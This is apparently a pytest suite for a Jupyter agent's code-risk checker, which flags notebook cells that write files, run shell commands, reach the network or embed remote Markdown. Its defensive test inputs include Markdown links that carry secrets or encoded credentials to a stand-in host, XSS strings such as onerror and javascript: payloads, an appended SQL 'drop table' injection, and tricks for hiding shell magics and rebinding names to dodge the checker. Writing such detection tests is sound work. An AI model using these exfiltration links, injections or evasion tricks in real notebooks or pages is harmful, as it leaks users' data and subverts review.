"""What code is asked about in every mode, and what is not."""

from __future__ import annotations

import builtins
import json
import time
from collections.abc import Mapping
from pathlib import Path

import pytest

from jupyter_agent.analysis import risk
from jupyter_agent.analysis.code_checks import may_try_unasked
from jupyter_agent.analysis.origins import imported_modules
from jupyter_agent.core.kernel_state import KernelState, Variable

CASES = json.loads(Path(__file__).with_name("risk_cases.json").read_text(encoding="utf-8"))


def _codes(
    code: str, *sources: str, live: dict[str, Variable] | None = None, modules: Mapping[str, str | None] | None = None
) -> set[str]:
    return {reason.code for reason in risk.reasons(code, sources=sources, live=live or {}, modules=modules or {})}


@pytest.mark.parametrize("case", [case for case in CASES if case["reason"]], ids=lambda case: case["code"])
def test_N6_code_that_reaches_out_has_a_reason(case: dict[str, str]) -> None:
    assert risk.reasons(case["code"], sources=[case.get("before", "")])


@pytest.mark.parametrize("case", [case for case in CASES if not case["reason"]], ids=lambda case: case["code"])
def test_N6_code_that_computes_reads_or_plots_has_none(case: dict[str, str]) -> None:
    assert risk.reasons(case["code"], sources=[case.get("before", "")]) == ()


@pytest.mark.parametrize(
    ("code", "live"),
    [
        ("print('x', file=log)", Variable("log", "_io.TextIOWrapper", "object", "file")),
        ("json.dump({}, log)", Variable("log", "_io.TextIOWrapper", "object", "file")),
        ("go()", Variable("go", "functools.partial", "function", "partial of remove")),
        ("list(map(helper, 'a'))", Variable("helper", "builtins.function", "function", "helper")),
        ("import re\nre.sub('a', helper, 'a')", Variable("helper", "builtins.function", "function", "helper")),
        ("box + 1", Variable("box", "__main__.Box", "object", "Box")),
        ("box.shape", Variable("box", "__main__.Box", "object", "Box")),
        ("box['a']", Variable("box", "__main__.Box", "mapping", "Box")),
        ("list(items)", Variable("items", "builtins.map", "iterator", "map")),
        ("first, = items", Variable("items", "itertools.starmap", "object", "starmap")),
        ("await work", Variable("work", "builtins.coroutine", "object", "coroutine")),
        ("with block: pass", Variable("block", "contextlib._GeneratorContextManager", "object", "block")),
        ("thread.start()", Variable("thread", "threading.Thread", "object", "Thread")),
        ("known.mean('x')", Variable("known", "types.SimpleNamespace", "object", "namespace")),
        ("cached('x')", Variable("cached", "functools._lru_cache_wrapper", "object", "cached")),
        ("functions['go']('x')", Variable("functions", "builtins.dict", "mapping", "dict of 1")),
        ("for function in functions: function('x')", Variable("functions", "builtins.list", "sequence", "list of 1")),
    ],
)
def test_N6_what_only_the_kernel_knows_of_is_asked_about(code: str, live: Variable) -> None:
    assert _codes(code, live={live.name: live})


@pytest.mark.parametrize(
    ("code", "live"),
    [
        ("frame.head()\nframe + 1", Variable("frame", "pandas.DataFrame", "frame", "DataFrame 2 × 3")),
        ("print(counts)\ncounts['a'] += 1", Variable("counts", "collections.Counter", "mapping", "Counter of 1")),
        (
            "[day.year for day in days]\ndays[0].strftime('%Y')",
            Variable("days", "builtins.list", "sequence", "list of 1"),
        ),
        ("model.predict(table['a'])", Variable("table", "builtins.dict", "mapping", "dict of 1")),
    ],
)
def test_N6_data_of_the_kernel_that_no_source_shows_is_free(code: str, live: Variable) -> None:
    assert _codes(code, live={live.name: live}) == set()


@pytest.mark.parametrize("code", ["_('x')", "_5('x')", "Out[3].post(place)", "_.rename('b')", "_hidden.send(b'x')"])
def test_N6_what_the_kernel_says_nothing_of_is_asked_about(code: str) -> None:
    assert "unknown_call" in _codes(code)
    assert _codes("_.head()\nOut[3].mean()\n_5.shape\nprint(_, __)\nfor _ in x: print(_)") == set()


def test_N6_an_object_of_the_kernel_is_one_of_its_class() -> None:
    live = {"box": Variable("box", "__main__.Box", "object", "Box")}
    box = "class Box:\n    def __add__(self, other):\n        open('a', 'w')\n    def area(self):\n        return 1"
    assert _codes("box + 1", box, live=live) == {"files"}
    assert _codes("box.area()", box, live=live) == set()


def test_N6_a_well_known_module_that_lies_next_to_the_notebook_is_looked_at() -> None:
    assert _codes("import rich", modules={"rich": "open('a', 'w')"}) == {"files"}
    assert _codes("import rich", modules={"rich": None}) == {"process"}
    assert _codes("__import__('tool')", modules={"tool": "open('a', 'w')"}) == {"files"}
    live = {"tool": Variable("tool", "builtins.module", "module", "module tool", {"module": "tool"})}
    again = "import importlib\nimportlib.reload(tool)"
    assert _codes(again, "import tool", modules={"tool": "open('a', 'w')"}, live=live) == {"files"}


@pytest.mark.parametrize("code", ["df.query(expr='a > 1')", "con.query()", "x.eval()", "df.query(text := 'a')"])
def test_N6_every_call_can_be_looked_at(code: str) -> None:
    assert risk.reasons(code) == ()


def test_the_text_of_a_reason_shows_the_place_in_the_code() -> None:
    (reason,) = risk.reasons("import os\nos.remove('old.csv')")
    assert (reason.code, reason.text) == (
        "files",
        "It writes, moves or deletes files, or reads where secrets are kept: `os.remove('old.csv')`",
    )


def test_N21_every_place_can_be_read_also_those_that_the_text_only_counts() -> None:
    long = f"os.remove('{'a' * 100}')"
    body = "\n    ".join([long, *(f"os.remove('{name}')" for name in "abca"), long])
    (reason,) = risk.reasons("clean()", sources=[f"import os\ndef clean():\n    {body}"])
    assert reason.text.endswith("`os.remove('a')`, `os.remove('b')`, and 1 more like it")
    assert reason.more == (long, "os.remove('c')")


def test_N7_a_reason_for_markdown_names_addresses_first_and_each_place_once() -> None:
    (reason,) = risk.markdown_reasons("<b onclick=x>hi</b> <p>a</p> [click](http://x.invalid/?d=secret)")
    assert reason.text.endswith(": `http://x.invalid/?d=secret`, `<b onclick=x`, `<p`")
    (reason,) = risk.markdown_reasons("<i>a</i>" + "".join(f"![a](https://{host}.invalid/p)" for host in "abcd"))
    assert reason.text.endswith(
        ", ".join(f"`![a](https://{host}.invalid/p`" for host in "abcd") + ", and 1 more like it"
    )
    assert reason.more == ("<i",)
    assert risk.markdown_reasons("</b>")


def test_what_ran_before_says_what_a_name_stands_for() -> None:
    assert _codes("clean()", "import os as o\ndef clean():\n    o.remove('a')") == {"files"}
    assert _codes("clean()", "def clean():\n    return df.dropna()") == set()
    assert _codes("p.rename('b')", "from pathlib import Path\np = Path('a')") == {"files"}
    assert _codes("box.go()", "class Box:\n    def go(self):\n        open('a', 'w')\nbox = Box()") == {"files"}
    assert _codes("pd.read_csv(place)", "place = 'https://x.invalid/a.csv'") == {"network"}
    assert _codes("run(['x'])", "from subprocess import *") == {"process"}
    assert _codes("wipe()", "wipe = lambda: open('a', 'w')") == {"files"}
    assert _codes("wipe()", "import functools\nwipe = functools.partial(open, 'a', 'w')") == {"files"}
    assert _codes("box.any", "class Box:\n    def __getattr__(self, name):\n        open('a', 'w')\nbox = Box()") == {
        "files"
    }


@pytest.mark.parametrize(
    "code",
    [
        "print('x', file=log)",
        "log.write('x')",
        "log.truncate()",
        "import json\njson.dump({}, log)",
        "import pickle\npickle.Pickler(log).dump(1)",
        "import contextlib\nwith contextlib.redirect_stdout(log):\n    print(1)",
        "import csv\ncsv.DictWriter(log, ['a'])",
    ],
)
def test_N6_what_is_written_to_a_file_that_is_open_is_asked_about(code: str) -> None:
    assert _codes(code, "log = open('a.log', 'a')") == {"files"}
    assert _codes(code, "import gzip\nlog = gzip.open('a.gz', 'wt')") == {"files"}
    assert _codes(code, "import io\nlog = io.StringIO()") == set()


@pytest.mark.parametrize(
    "source",
    [
        "box.log = open('a', 'w')",
        "logs = [open('a', 'w')]",
        "logs = {0: open('a', 'w')}",
        "logs = []\nlogs.append(open('a', 'w'))",
    ],
)
def test_N6_an_open_file_is_known_wherever_it_is_kept(source: str) -> None:
    kept = "box.log" if "box" in source else "logs[0]"
    for code in (f"{kept}.write('x')", f"print('x', file={kept})", f"log = {kept}\nlog.write('x')"):
        assert _codes(code, source) == {"files"}
        assert _codes(code, source.replace("'w'", "'r'")) == set()


def test_N6_reading_an_open_file_and_closing_one_is_not_asked_about() -> None:
    assert _codes("import json\njson.load(data)\ndata.readline()", "data = open('a.json')") == set()
    assert _codes("log.close()\nlog.closed", "log = open('a.log', 'w')") == set()


def test_N6_the_shell_is_known_whatever_is_bound_elsewhere_and_where_ipython_runs_us(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shell = "get_ipython().system('touch a')"
    assert "process" in _codes(shell, "def get_ipython():\n    pass")
    monkeypatch.setattr(builtins, "get_ipython", lambda: None, raising=False)
    assert "process" in _codes(shell)


def test_a_live_function_of_which_no_source_is_known_is_asked_about() -> None:
    live = {"helper": Variable("helper", "builtins.function", "function", "function helper()")}
    assert _codes("helper(3)", live=live) == {"unknown_call"}
    assert _codes("df.apply(helper)", live=live) == {"unknown_call"}
    assert _codes("helper(3)", "def helper(n):\n    return n + 1", live=live) == set()


def test_a_name_that_is_bound_to_itself_stands_for_what_it_did() -> None:
    assert _codes("os = os\nos.remove('a')", "import os") == {"files"}
    assert _codes("os = os\nos.remove('a')") == {"files"}
    assert _codes("df = df.dropna()", "df = pd.read_csv('a.csv')") == set()


REBOUND = [
    "def helper(open=None, exec=None, __import__=None, os=None, subprocess=None): ...",
    "def candle(open, close, exec, subprocess): return close - open",
    "for open, exec, os, subprocess in rows: ...",
    "open, exec, __import__, subprocess = row",
    "open = exec = __import__ = os = subprocess = df['Open']",
    "f = lambda open, exec, os, subprocess: open",
    "class A:\n    open = 1\n    def exec(self): pass\n    def subprocess(self): pass",
    "import numpy as open, scipy as exec, os.path as os",
]


@pytest.mark.parametrize("source", REBOUND)
def test_N6_a_cell_that_never_ran_takes_the_reason_from_no_builtin_and_no_module(source: str) -> None:
    for code, reason in {
        "open('a', 'w')": "files",
        "exec('import os; os.remove(0)')": "files",
        "__import__('os').system('x')": "process",
        "import os\nos.system('x')": "process",
        "import subprocess\nsubprocess.run('x')": "process",
    }.items():
        assert reason in _codes(code, source)


@pytest.mark.parametrize(
    ("code", "before"),
    [
        ("open('a', 'w'); lambda open: 0", ""),
        ("open('a', 'w')\n[0 for open in ()]", ""),
        ("open('a', 'w')\nclass A:\n    open = 1", ""),
        ("class A:\n    open('a', 'w')\n    open = 1", ""),
        ("def g(open): pass\nopen('a', 'w')", ""),
        ("def g():\n    def h():\n        global open\n        open('a', 'w')\n    open = 1\n    h()\ng()", ""),
        ("exec('open(0, \"w\")')\nlambda exec: 0", ""),
        ("os.remove('a')\nlambda os: 0", "import os"),
        ("f('a', 'w')\nf = print", "f = open"),
        ("f()\nf = 1", "def f():\n    open('a', 'w')"),
        ("f()\nfor f in (): pass", "def f():\n    open('a', 'w')"),
        ("open('a', 'w')\nopen = 1", ""),
        # bound by a branch, a loop or a block that may not have run to its end
        ("if x:\n    open = print\nopen('a', 'w')", ""),
        ("for open in x: pass\nopen('a', 'w')", ""),
        ("while x:\n    open = 1\nopen('a', 'w')", ""),
        ("with suppress(E):\n    open = 1 / 0\nopen('a', 'w')", ""),
        ("match x:\n    case open: pass\nopen('a', 'w')", ""),
        ("x and (open := print)\nopen('a', 'w')", ""),
        ("open: int\nopen('a', 'w')", ""),
        # bound, and deleted again
        ("open = 1\ndel open\nopen('a', 'w')", ""),
        ("try:\n    1 / 0\nexcept E as open:\n    pass\nopen('a', 'w')", ""),
        ("open = 1\n%xdel open\nopen('a', 'w')", ""),
        ("open = 1\nglobals().pop('open')\nopen('a', 'w')", ""),
        ("open = 1\nexec('del open')\nopen('a', 'w')", ""),
        ("open = 1\ng()\nopen('a', 'w')", "def g():\n    global open\n    del open"),
        ("def f(x): pass\ng()\nf('x')", "def g():\n    global f\n    from os import system as f"),
        ("system = print\nfrom os import *\nsystem('x')", ""),
        # bound to itself
        ("open = open\nopen('a', 'w')", ""),
        ("open, x = open, 1\nopen('a', 'w')", ""),
        ("def f(open=open): open('a', 'w')\nf()", ""),
    ],
)
def test_N6_what_a_name_may_stand_for_is_never_dropped(code: str, before: str) -> None:
    assert _codes(code, before) & {"files", "process"}


@pytest.mark.parametrize(
    "code",
    [
        "open = df['Open']\nplt.plot(open, open.mean())",
        "for open, high, low, close in rows:\n    plt.plot(open, close)",
        "def candle(open, close):\n    return max(open, close)\ncandle(1, 2)",
        "print([max(open, close) for open, close in rows])",
        "f = lambda open: max(open, 1)\nf(2)",
        "try:\n    open = a\nexcept KeyError:\n    open = b\nprint(open)",
        "def f():\n    open = df['Open']\n    return max(open), [open for _ in x]\nf()",
        "if x:\n    open = 1\nelse:\n    open = 2\nprint(open)",
    ],
)
def test_N6_a_name_that_the_code_surely_binds_is_not_the_builtin(code: str) -> None:
    assert _codes(code) == set()


def test_N6_a_parameter_of_a_function_that_ran_before_is_not_the_builtin() -> None:
    assert _codes("candle(1, 2)", "def candle(open, close):\n    return max(open, close)") == set()


def test_N6_what_is_not_surely_harmless_of_what_ran_before_has_a_reason() -> None:
    connection = "import sqlite3\ncon = sqlite3.connect('x.db')"
    more = "\n".join(["q = 'select 1'"] * 3)
    assert _codes(f"q = 'drop table t'\ncon.execute(q)\n{more}", connection) == {"database"}
    assert _codes("q = 'select 1'\nq += '; drop table t'\ncon.execute(q)", connection) == {"database"}
    assert _codes("con.execute('select 1')", connection) == set()
    assert "process" in _codes("{**globals()}['os'].system('x')", "import os")
    assert _codes("d = {}\nd.update(globals())\nd['os'].system('x')", "import os")
    assert _codes("df.plot(backend='mine')", "import pandas as pd\ndf = pd.DataFrame()") == {"process"}
    assert _codes("t.start()", "class T(threading.Thread):\n    def run(self):\n        open('a', 'w')\nt = T()") == {
        "files"
    }
    assert _codes("code = '1'\nmatch x:\n    case code: exec(code)") == {"unknown_call"}
    assert _codes("code = '1'\nglobals()['code'] = x\nexec(code)") == {"unknown_call"}


def test_N6_an_extension_next_to_the_notebook_is_not_the_well_known_one() -> None:
    assert imported_modules(["%load_ext rich"]) == ("rich",)
    assert _codes("%load_ext rich", modules={"rich": "open('a', 'w')"}) == {"magic"}
    assert _codes("%load_ext rich") == set()


def test_N6_a_line_that_ipython_takes_as_a_magic_is_one_unless_its_name_is_bound_in_the_kernel() -> None:
    assert _codes("rm -f *x", "rm = 1") == {"files"}
    assert _codes("rm -f *x", live={"rm": Variable("rm", "builtins.int", "number", "1")}) == set()


def test_what_a_star_import_bound_is_known_where_the_library_is() -> None:
    live = {"linspace": Variable("linspace", "builtins.function", "function", "function linspace()")}
    assert _codes("linspace(0, 1)", "from numpy import *", live=live) == set()
    assert _codes("linspace(0, 1)", "from mine import *", live=live) == {"unknown_call"}


def test_the_type_of_a_live_value_says_what_its_methods_reach() -> None:
    live = {
        "session": Variable("session", "requests.sessions.Session", "object", "Session"),
        "frame": Variable("frame", "pandas.DataFrame", "frame", "DataFrame 3 × 2"),
        "tool": Variable("tool", "builtins.module", "module", "module subprocess", {"module": "subprocess"}),
    }
    assert _codes("session.get(place)", live=live) == {"network"}
    assert _codes("frame.describe()", live=live) == set()
    assert _codes("tool.run(['x'])", live=live) == {"process"}


def test_a_module_next_to_the_notebook_is_read() -> None:
    helper = "import os\ndef tidy():\n    os.remove('a')\ndef area(r):\n    return 3 * r * r\n"
    assert _codes("import helper\nhelper.area(2)", modules={"helper": helper}) == set()
    assert _codes("import helper\nhelper.tidy()", modules={"helper": helper}) == {"files"}
    assert _codes("from helper import tidy as t\nt()", modules={"helper": helper}) == {"files"}
    assert _codes("import helper\nhelper.area(2)") == {"unknown_call"}
    package = {"shop": "from .orders import total", "shop.orders": "def total(x):\n    return sum(x)"}
    assert _codes("import shop\nshop.total([1])", modules=package) == set()
    assert imported_modules(["from .orders import total"], "shop") == ("shop.orders", "shop.orders.total")


def test_N6_what_a_module_next_to_the_notebook_runs_when_it_is_imported_is_looked_at() -> None:
    modules = {
        "tool": "import os\nos.remove('a')\ndef area():\n    return 1",
        "shop": "from .orders import total",
        "shop.orders": "open('a', 'w')\ntotal = 1",
        "quiet": "import math\ndef area(r):\n    return math.pi * r",
    }
    assert _codes("import tool", modules=modules) == {"files"}
    assert _codes("from tool import area", modules=modules) == {"files"}
    assert _codes("import shop", modules=modules) == {"files"}
    assert _codes("from quiet import area", modules=modules) == set()
    live = {"tool": Variable("tool", "builtins.module", "module", "module tool", {"module": "tool"})}
    assert _codes("import tool", modules=modules, live=live) == set()  # it has run


def test_N6_a_module_from_a_folder_that_was_added_is_not_known() -> None:
    assert _codes("import tool", "import sys\nsys.path.insert(0, 'lib')") == {"process"}
    assert _codes("import numpy", "import sys\nsys.path.insert(0, 'lib')") == set()


def test_N6_a_text_of_the_kernel_is_seen_where_its_value_is_known() -> None:
    def text(value: str) -> dict[str, Variable]:
        return {"place": Variable("place", "builtins.str", "text", "text", {"value": value})}

    assert _codes("pd.read_csv(place)", live=text("'data/a.csv'")) == set()
    assert _codes("pd.read_csv(place)", live=text("'http://x.invalid'")) == {"network"}
    assert _codes("pd.read_csv(place)", live=text("'data/a…")) == {"network"}
    assert _codes("pd.read_csv(place)") == {"network"}


def test_code_nested_too_deeply_is_asked_about() -> None:
    assert _codes("x = " + "(" * 3000 + "1" + ")" * 3000) == {"unknown_call"}
    assert _codes("eval(" * 20 + "'1'" + ")" * 20) == {"unknown_call"}


@pytest.mark.parametrize(
    "text",
    [
        "![c](http://x.invalid/?d=1)",
        "![c][1]\n\n[1]: //x.invalid/a.png",
        "<img src=x onerror=alert(1)>",
        "[report](https://x.invalid/?d=secret)",
        "<https://x.invalid/a>",
        "[a](javascript:alert(1))",
        "$\\href{https://x.invalid}{a}$",
        # what Markdown reads as an address
        "![a](http\\://x.invalid/a.png)",
        "![a](http&#58;//x.invalid/a.png)",
        "![a](&#x2f;&sol;x.invalid/a.png)",
        "![a](/\\x.invalid/a.png)",
        "![a](https:x.invalid/a.png)",
        "![a\\]b](http://x.invalid/a.png)",
        "![a [b]](http://x.invalid/a.png)",
        "[r]: http&#58;//x.invalid/a.png",
        "[report](https://x.invalid/&#63;d=secret)",
        # data in the path
        "[a](https://x.invalid/Ab3dE6gH9jK2mN5pQ8sT1vW4)",
        "[a](https://x.invalid/v1/eyJwYXNzIjoiaHVudGVyMiIsImtleSI6MX0/show)",
        "[a](https://x.invalid/70617373776f72643d68756e74657232)",
        "[a](https://x.invalid/Ab3dE6gH9jK2/mN5pQ8sT1vW4xY)",
        "[a](https://x.invalid/Ab3_dE6-gH9jK2_mN5pQ8s-T1vW4)",
        "[a](https://x.invalid/Ab3dE6gH9&#106;K2mN5pQ8sT1vW4)",
        "[a](https://x.invalid/%41b3dE6gH9jK2%6dN5pQ8sT1vW4)",
        "see //x.invalid/Ab3dE6gH9jK2mN5pQ8sT1vW4 for more",
        # pictures of which the description has brackets or backticks, addresses that stand elsewhere, or are written otherwise
        "![a`b](http://x.invalid/word)",
        "![a [b [c]]](http://x.invalid/pic)",
        "![`](https://x.invalid/p) `",
        "![logo]\n\n> [logo]: https://x.invalid/p.png",
        "![logo]\n\n- 1. [logo]: https://x.invalid/p.png",
        "![lo\\]go]\n\n[lo\\]go]: https://x.invalid/p.png",
        "![a][b]\n\n* * [b]: http&colon;//x.invalid/p",
        "![a](ht&Tab;tps://x.invalid/p)",
        "![a](/&Tab;/x.invalid/p)",
        "![a](&bsol;&bsol;x.invalid/p)",
        # links that carry data to other than a page
        "[a](//x.invalid/?d=secret)",
        "see www.x.invalid/?d=secret",
        "[a](mailto:a@x.invalid?body=secret)",
        "[a](ftp://x.invalid/?d=secret)",
        "$\\style{background:u\\72l(//x)}{a}$",
        "$\\class{jp-x}{a}$",
        # a diagram, which fetches its pictures
        '```mermaid\nflowchart TD\n  A@{ img: "x" }\n```',
        "> ~~~\u00a0Mermaid\n> flowchart TD\n> ~~~",
    ],
)
def test_N7_markdown_that_fetches_or_carries_away_is_asked_about(text: str) -> None:
    assert [reason.code for reason in risk.markdown_reasons(text)] == ["remote_content"]


@pytest.mark.parametrize("unit", ["![", "![a](", "\n[a", "> - ", "src=\n", "<image ", "srcset="])
def test_N7_hostile_markdown_takes_time_in_proportion(unit: str) -> None:
    began = time.process_time()
    risk.markdown_reasons(unit * (60_000 // len(unit)))
    assert time.process_time() - began < 3


def test_N6_what_a_text_may_be_is_read_in_bounded_time() -> None:
    parts = "\n".join(
        f"x = x.strip() + y[0].lower() + z({number}).upper() + x.replace(y[1], x)" for number in range(60)
    )
    began = time.process_time()
    _codes(f"import pandas as pd\n{parts}\npd.read_csv(x)", "def z(n):\n    return x + z(n).strip() + z(x)")
    assert time.process_time() - began < 5


def test_N6_other_names_of_an_object_are_followed_in_bounded_time() -> None:
    chain = "\n".join(f"a{number + 1} = a{number}\na{number}.append('b')" for number in range(500))
    began = time.process_time()
    assert _codes(f"import pandas as pd\na0 = ['a.csv']\n{chain}\npd.read_csv(a0[0])") == {"network"}
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "step",
    [
        "df['c{next}'] = df['c{last}'] * 2",
        "df = df.assign(c{next}=df['c{last}'])",
        "df = df.merge(other); other = other.merge(df)",
    ],
)
def test_after_hundreds_of_steps_a_table_is_a_table(step: str) -> None:
    steps = [step.format(next=number + 1, last=number) for number in range(250)]
    before = ["import pandas as pd\ndf = pd.read_csv('a.csv')\nother = pd.read_csv('b.csv')", *steps]
    began = time.process_time()
    assert risk.reasons("df.head()", sources=before) == ()
    assert {reason.code for reason in risk.reasons("df.to_csv('out.csv')", sources=before)} == {"files"}
    assert time.process_time() - began < 20


def test_a_long_session_that_defines_a_class_anew_time_and_again_is_not_asked_about() -> None:
    step = "class A:\n    def clean(self, df):\n        return df.dropna().head({number})\ndf = A().clean(df)"
    before = ["import pandas as pd\ndf = pd.read_csv('a.csv')", *(step.format(number=number) for number in range(150))]
    assert _codes("df.head()\ndf = A().clean(df)", *before) == set()
    hostile = "class A:\n    def clean(self, df):\n        df.to_csv('a')\n        return df"
    assert _codes("df = A().clean(df)", *before[:75], hostile, *before[75:]) == {"files"}


@pytest.mark.parametrize(
    ("step", "reasons"),
    [
        ("df = df.assign(a{number}=1)\ndf['c{number}'] = df['a'] * 2", set()),
        ("df['c{number}'] = df.c{number}.astype('category')", set()),
        ("t = f'{{t}}{{t}}{number}'\ndf.query(t)", {"unknown_call"}),
        ("x = x.strip() + y.lower()\ny = x + y\nopen(x)", {"unknown_call"}),
        ("a = a.f{number}(a)\na.append(a)\na['x'] = a", {"unknown_call"}),
    ],
)
def test_N6_four_hundred_steps_are_followed_in_bounded_time(step: str, reasons: set[str]) -> None:
    steps = "\n".join(step.format(number=number) for number in range(400))
    began = time.process_time()
    assert (
        _codes(f"t, x, y, a = '1', 'a', 'b', []\n{steps}", "import pandas as pd\ndf = pd.read_csv('a.csv')") == reasons
    )
    assert time.process_time() - began < 5


@pytest.mark.parametrize("count", [2, 40])
@pytest.mark.parametrize(
    "code",
    [
        "m = os\n{steps}m = m.path\nm = m.os\nm.remove('x')",
        "m = 1\n{steps}m = os.path\nm = m.os\nm = m.remove\nm('x')",
        "for number in range(9):\n    m = m.remove\n    m = m.os\n    m = os.path\n{steps}m('x')",
    ],
)
def test_N6_a_name_that_is_made_of_itself_time_and_again_is_followed(code: str, count: int) -> None:
    steps = "".join(f"m = m.f{number}(m)\n" for number in range(count))
    *before, last = ("import os\n" + code.format(steps=steps)).splitlines()
    assert risk.reasons("\n".join([*before, last]))
    assert risk.reasons(last, sources=["\n".join(before)])


def test_N7_plain_markdown_is_not_asked_about() -> None:
    assert (
        risk.markdown_reasons("# Title\n\nSee [the docs](https://pandas.pydata.org/docs/) and `a < b`, $x < y$, 3 > 2.")
        == ()
    )
    assert (
        risk.markdown_reasons(
            "![a](img/a\\_b.png) [b](https://x.invalid/A_\\(b\\)) ![c](attachment:c.png) ![d](a&amp;b.png)"
        )
        == ()
    )


@pytest.mark.parametrize(
    "address",
    [
        "https://pandas.pydata.org/docs/reference/api/pandas.DataFrame.rolling.html",
        "https://scikit-learn.org/stable/modules/generated/sklearn.experimental.HalvingRandomSearchCV.html",
        "https://doi.org/10.1038/s41586-020-2649-2",
        "https://dl.acm.org/doi/10.1145/3292500.3330701",
        "https://arxiv.org/pdf/2005.14165v4.pdf",
        "https://en.wikipedia.org/wiki/Root-mean-square_deviation_of_atomic_positions",
        "https://github.com/numpy/numpy/blob/4c1a8e8c3d5f6b7a9e0d1c2b3a4f5e6d7c8b9a0f/numpy/core/numeric.py",
        "https://gitlab.com/a/b/-/commit/4c1a8e8c3d5f6b7a9e0d1c2b3a4f5e6d7c8b9a0f",
        "https://blog.example.org/the-big-split-9d7b88a031a7",
        "https://www.kaggle.com/competitions/house-prices-advanced-regression-techniques/data",
        "https://archive.ics.uci.edu/ml/machine-learning-databases/00222/bank-additional.zip",
        "https://stackoverflow.com/questions/16476924/how-to-iterate-over-rows-in-a-pandas-dataframe",
        "https://www.youtube.com/embed/aircAruvnKk",
        "https://docs.python.org/3.12/library/collections.abc.html",
    ],
)
def test_N7_an_ordinary_link_is_not_asked_about(address: str) -> None:
    assert risk.markdown_reasons(f"See [this]({address}) and {address} too.") == ()


@pytest.mark.parametrize(
    ("code", "allowed"),
    [
        ("df.head()", True),
        ("total = df['a'].sum()", True),
        ("rows = [r for r in items if r]", True),
        ("df['b'] = 1", False),
        ("items.append(1)", False),
        ("thing.go()", False),
        ("import os", False),
        ("while True:\n    pass", False),
        ("missing + 1", False),
        ("f = lambda: 1", False),
        ("open('a.txt').read()", False),
        ("next(rows)", False),
    ],
)
def test_only_what_is_known_to_change_nothing_is_tried_unasked(code: str, *, allowed: bool) -> None:
    variables = {
        "df": Variable("df", "pandas.DataFrame", "frame", "DataFrame"),
        "items": Variable("items", "builtins.list", "sequence", "list"),
        "rows": Variable("rows", "builtins.generator", "iterator", "generator"),
        "thing": Variable("thing", "shop.Thing", "object", "Thing"),
    }
    assert may_try_unasked(code, KernelState("k", variables=variables), []) is allowed


@pytest.mark.parametrize("end", ["\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"])
@pytest.mark.parametrize(
    "code",
    [
        "%matplotlib inline{}!touch a",
        "?df{}!touch a",
        "%%capture --no-stdout{0}{0}!touch a",
        "%who \\{}!touch a",
        "x;{}%sx touch a",
        "In [1]: 1{}In [2]: !touch a",
        "{}%%bash{0}touch a",
    ],
)
def test_N6_a_line_ends_wherever_ipython_ends_it(code: str, end: str) -> None:
    assert _codes(code.replace("{0}", "{}").replace("{}", end))
    harmless = "df.head(){}%matplotlib inline{}plt.plot(x){}%matplotlib inline"
    assert end[0] != "\r" or _codes(harmless.replace("{}", end)) == set()


@pytest.mark.parametrize(
    "code", ["!touch a\\", "!touch a\\\n", "%sx touch a ? ", "#\v%who\f%sx touch a", "x = 1\n!touch a\\"]
)
def test_N6_a_magic_is_seen_however_its_line_ends(code: str) -> None:
    assert _codes(code) == {"process"}


def test_N6_what_ipython_takes_for_a_prompt_hides_no_magic() -> None:
    for code in ("x = '''\n>>> '''\n... %sx -x", "x = 'a\\\n>>> b'\n... %sx -x", "x = '''\nIn [1]: '''\n...: !ls"):
        assert _codes(code)
    assert _codes(">>> x = 1\n>>> for i in [1]:\n...     x + i\n1") == set()
    assert _codes("In [1]: x = 1\n   ...: x + 1\n") == set()
    assert _codes("def f():\n    '''\n    >>> f()\n    1\n    '''\n    return open('a', 'w')\nf()") == {"files"}


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("numpy.memmap", "x[:] = 0"),
        ("numpy.memmap", "x += 1"),
        ("numpy.memmap", "x.fill(0)"),
        ("numpy.memmap", "import numpy as np\nnp.copyto(x, 0)"),
        ("numpy.memmap", "import numpy as np\nnp.add(x, 1, out=x)"),
        ("numpy.memmap", "import numpy as np\nnp.multiply(x, 2, x)"),
        ("h5py._hl.files.File", "x.create_dataset('a', data=[1])"),
        ("numpy.memmap", "y = x[1:]\ny[0] = 1"),
        ("numpy.memmap", "def change():\n    x[0] = 1\nchange()"),
        ("h5py._hl.files.File", "x['a'] = 1"),
        ("h5py._hl.files.File", "del x['a']"),
        ("h5py._hl.dataset.Dataset", "x[0] = 1"),
        ("shelve.DbfilenameShelf", "x['a'] = 1"),
        ("zarr.core.array.Array", "x[:] = 0"),
        ("pandas.io.pytables.HDFStore", "x['a'] = df"),
        ("mmap.mmap", "x[0:1] = b'a'"),
        ("tempfile.TemporaryDirectory", "del x"),
        ("tempfile.TemporaryDirectory", "x = 1"),
        ("some_database.Table", "x['a'] = 1"),
    ],
)
def test_N6_what_changes_an_object_of_the_kernel_that_is_a_file_is_asked_about(kind: str, code: str) -> None:
    assert "files" in _codes(code, live={"x": Variable("x", kind, "object", "x")})


@pytest.mark.parametrize(
    "kind", ["numpy.ndarray", "pandas.DataFrame", "builtins.dict", "builtins.list", "__main__.Box"]
)
def test_N6_what_changes_an_object_in_memory_is_not(kind: str) -> None:
    live = {"x": Variable("x", kind, "object", "x")}
    box = "class Box(dict):\n    pass"
    assert _codes("x['a'] = 1\nx[0] += 1\ndel x['a']\nx = None", box, live=live) == set()
    assert _codes("x.mean()\ny = x[:3]\nprint(x)", live={"x": Variable("x", "numpy.memmap", "array", "x")}) == set()


@pytest.mark.parametrize("code", ["box = None", "del box", "for box in rows: pass", "import math as box", "(box := 1)"])
def test_N6_what_runs_when_an_object_goes_away_is_looked_at(code: str) -> None:
    box = "class Box:\n    def __del__(self):\n        {}\nbox = Box()"
    assert _codes(code, box.format("open('a', 'w')")) == {"files"}
    assert _codes(code, box.format("print(1)")) == set()


def test_N6_markup_given_to_a_widget_of_the_kernel_is_asked_about() -> None:
    live = {"w": Variable("w", "ipywidgets.widgets.widget_string.HTML", "object", "HTML")}
    assert _codes("w.value = '<img src=\"http://x.invalid/p\">'", live=live) == {"remote_content"}
    assert _codes("w.value = '<b>done</b>'", live=live) == set()


def test_N6_a_query_of_an_object_of_an_unknown_library_is_asked_about() -> None:
    live = {"x": Variable("x", "pyvisa.resources.Resource", "object", "x")}
    assert _codes("x.query('*RST')", live=live) == {"unknown_call"}
